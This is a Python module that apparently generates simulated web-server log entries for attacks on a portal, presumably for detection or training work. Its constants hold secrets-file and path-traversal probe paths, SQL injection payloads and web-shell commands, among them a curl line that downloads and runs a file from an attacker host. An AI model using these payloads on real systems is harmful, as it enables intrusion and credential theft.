"""Attacks on the portal, as its web log shows them."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import datetime
from random import Random
from urllib.parse import quote

from connectors.simulator import portal
from connectors.simulator.portal import BROWSERS
from connectors.simulator.stream import Line, later
from connectors.simulator.world import World

FORGOTTEN = (
    "/.env", "/.env.bak", "/.env.production", "/.git/HEAD", "/.git/config", "/.svn/entries", "/.DS_Store",
    "/web.config", "/config.php.bak", "/backup.zip", "/backup.sql", "/db.sql.gz", "/dump.sql", "/www.tar.gz",
    "/.aws/credentials", "/.ssh/id_rsa", "/id_rsa", "/server-status", "/phpinfo.php", "/info.php", "/.htpasswd",
    "/composer.lock", "/package-lock.json", "/wp-config.php~", "/old/", "/test/", "/admin.bak/", "/api/swagger.json",
    "/static/../../../../etc/passwd", "/tai-ve?tep=../../../../../../etc/passwd",
    "/tai-ve?tep=..%2f..%2f..%2fetc%2fshadow",
)  # fmt: skip
INJECTIONS = (
    "1'", "1' AND '1'='1", "1' AND '1'='2", "1 ORDER BY {n}-- -", "-{n} UNION ALL SELECT {nulls}-- -",
    "1' UNION ALL SELECT {nulls}-- -", "1') AND SLEEP(5) AND ('x'='x", "1'; WAITFOR DELAY '0:0:5'--",
    "1 AND EXTRACTVALUE({n},CONCAT(0x5c,(SELECT version())))", "1' AND (SELECT {n} FROM information_schema.tables)-- -",
    "1 AND (SELECT COUNT(*) FROM information_schema.columns)>{n}",
)  # fmt: skip
COMMANDS = ("id", "uname -a", "cat /etc/passwd", "ls -la /var/www", "cat /var/www/portal/config/database.yml",
            "curl -o /srv/.x http://{home}/x", "chmod +x /srv/.x", "/srv/.x")  # fmt: skip


def secrets_probing(world: World, random: Random, at: datetime) -> Iterator[Line]:
    """A scanner asks for every file that somebody may have forgotten; one is really there."""
    ip = world.strangers[0]
    for path in random.sample(FORGOTTEN * 8, len(FORGOTTEN) * 8):
        status, size = (200, 92) if path == "/.git/HEAD" else (404, 162)
        yield portal.line(at, ip, f"GET {path} HTTP/1.1", status, size, agent="Mozilla/5.0 (compatible; probe)")
        at = later(at, random, 0.2, 2.5)


def sql_injection(world: World, random: Random, at: datetime) -> Iterator[Line]:
    """A tool tries the search and the document list; it says that it is a browser."""
    ip = world.strangers[1]
    for turn in range(90):
        nulls = ",".join(["NULL"] * (turn % 12 + 1))
        value = random.choice(INJECTIONS).format(n=random.randrange(10, 9999), nulls=nulls)
        target = random.choice(("/van-ban?loai=QD&id=", "/tim-kiem?page=1&q="))
        status = random.choices((200, 500, 403), (6, 3, 1))[0]
        request = f"GET {target}{quote(value)} HTTP/1.1"
        yield portal.line(at, ip, request, status, random.randrange(400, 30_000), agent=BROWSERS[0])
        at = later(at, random, 0.3, 3)


def web_shell(world: World, random: Random, at: datetime) -> Iterator[Line]:
    """A form for pictures takes a script, which then runs commands."""
    ip, agent, referer = world.strangers[2], BROWSERS[1], f"https://{world.spec.portal.host}/cong-dan-hoi"
    shell = f"/uploads/cong-dan/{at:%Y/%m}/{random.randrange(10**6):06}.php"
    yield portal.line(at, ip, "GET /cong-dan-hoi HTTP/1.1", 200, 14_022, agent=agent)
    at = later(at, random, 5, 20)
    yield portal.line(at, ip, "POST /cong-dan-hoi/gui HTTP/1.1", 302, 0, agent=agent, referer=referer)
    for command in COMMANDS:
        at = later(at, random, 4, 50)
        query = quote(command.format(home=world.strangers[3]))
        yield portal.line(at, ip, f"GET {shell}?cmd={query} HTTP/1.1", 200, random.randrange(20, 4_000), agent=agent)
    for _ in range(6):
        at = later(at, random, 20, 200)
        yield portal.line(at, ip, f"POST {shell} HTTP/1.1", 200, random.randrange(200, 90_000), agent=agent)
